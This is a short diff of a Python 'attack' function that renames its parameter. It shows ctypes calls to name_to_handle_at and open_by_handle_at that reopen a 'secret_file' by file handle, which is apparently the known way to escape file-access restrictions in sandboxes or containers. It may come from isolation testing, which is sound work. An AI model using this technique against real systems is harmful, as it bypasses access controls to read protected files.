@@ -4,13 +4,13 @@ import ctypes
 import os
 
 
-def attack(told: dict[str, str]) -> None:
+def attack(facts: dict[str, str]) -> None:
     libc = ctypes.CDLL(None, use_errno=True)
     handle = (ctypes.c_uint32 * 34)(128)
     mount = ctypes.c_int()
-    if libc.name_to_handle_at(-100, told["secret_file"].encode(), handle, ctypes.byref(mount), 0):
+    if libc.name_to_handle_at(-100, facts["secret_file"].encode(), handle, ctypes.byref(mount), 0):
         raise OSError(ctypes.get_errno(), "no handle")
-    near = os.open(told["folder"], os.O_RDONLY)
+    near = os.open(facts["folder"], os.O_RDONLY)
     descriptor = libc.open_by_handle_at(near, handle, os.O_RDONLY)
     if descriptor < 0:
         raise OSError(ctypes.get_errno(), "not opened")
